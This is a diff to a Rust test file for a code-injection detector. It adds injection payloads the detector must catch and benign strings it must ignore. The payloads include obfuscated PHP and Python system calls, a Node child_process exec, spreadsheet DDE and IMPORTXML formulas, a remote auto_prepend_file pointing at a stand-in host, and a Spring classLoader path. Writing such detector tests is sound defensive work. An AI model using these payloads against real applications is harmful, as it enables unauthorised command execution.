@@ -54,6 +54,21 @@ fn code_that_acts_is_found() {
         "res.end(require('fs').readdirSync('.').toString())",
         "import os; os.system('id')",
         "sleep(5)",
+        "('sys'.'tem')('id')",
+        "(sy.(st).em)('id')",
+        "[system][0]('ls')",
+        "\"\\x73ystem\"('id')",
+        "$f = 'sys'.'tem'; ($f)('id');",
+        "f\"{__import__('os').system('id')}\"",
+        "\\u0072equire('child_process').exec('id')",
+        "process[\"env\"]",
+        "'.`id`.'",
+        "chr(115).chr(121).chr(115)",
+        "auto_prepend_file=http://a.example/x",
+        "<? echo `id`; ?>",
+        "=cmd|'/C calc'!A0",
+        "=IMPORTXML(\"http://a.example\",\"//a\")",
+        "class.module.classLoader.resources.context.parent.appBase",
     ];
     let missed: Vec<_> = attacks.into_iter().filter(|value| code(value.as_bytes()).is_none()).collect();
     assert!(missed.is_empty(), "{missed:#?}");
@@ -94,6 +109,14 @@ fn code_that_is_shown_and_code_that_computes_are_left_alone() {
         "sleep(ms)",
         "print(\"sum\", 1 + 2)",
         "$total = sum($items);",
+        "const parseOptions = require('../internal/parse-options')",
+        "WINDOWS = platform.system() == \"Windows\"",
+        "p = subprocess.Popen(cmd)",
+        "os.Exit(1)",
+        "`limbs_mut` -> `as_limbs_mut`",
+        "(r'%x[0-9a-fA-F]+', Literal)",
+        "f(x)(y) = (a+b)(c+d)",
+        "=SUM(A1:A5)",
     ];
     let alarms: Vec<_> = ordinary.into_iter().filter(|value| code(value.as_bytes()).is_some()).collect();
     assert!(alarms.is_empty(), "{alarms:#?}");
